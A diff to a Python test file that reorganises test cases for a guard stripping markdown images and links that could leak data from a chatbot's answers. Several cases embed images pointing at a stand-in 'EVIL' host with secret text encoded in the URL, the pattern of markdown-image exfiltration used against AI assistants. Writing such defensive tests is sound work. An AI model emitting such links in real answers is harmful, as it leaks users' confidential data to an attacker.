@@ -22,7 +22,7 @@ SECRET_B64 = base64.b64encode("报价是三百万元".encode()).decode()
 SECRET_URLSAFE = base64.urlsafe_b64encode("客户是星河公司".encode()).decode().rstrip("=")
 
 
-@pytest.mark.parametrize("answer, shown", [
+CASES = [
     (f"![统计]({EVIL}/p.png?d=%E6%8A%A5%E4%BB%B7%E6%98%AF%E4%B8%89%E7%99%BE)", "统计"),
     (f"![]({EVIL}/p.png?d=hello)", ""),  # any picture not the bot's goes, data or not
     (f'![t]({EVIL}/p.png "title")', "t"),
@@ -60,7 +60,10 @@ SECRET_URLSAFE = base64.urlsafe_b64encode("客户是星河公司".encode()).deco
     (f"```\n![x]({EVIL}/a.png)\n```", "```\nx\n```"),  # phones show message code blocks as markdown
     ("<font color=red>红</font> a < b <think>x</think> [1] 和 [2]",
      "<font color=red>红</font> a < b <think>x</think> [1] 和 [2]"),
-], ids=lambda value: value[:40] if isinstance(value, str) else value)
+]
+
+
+@pytest.mark.parametrize("answer, shown", CASES, ids=[f"form-{number}" for number in range(len(CASES))])
 def test_pictures_and_links_that_would_leak_are_defused(guard, answer, shown):
     assert guard(answer) == shown
 
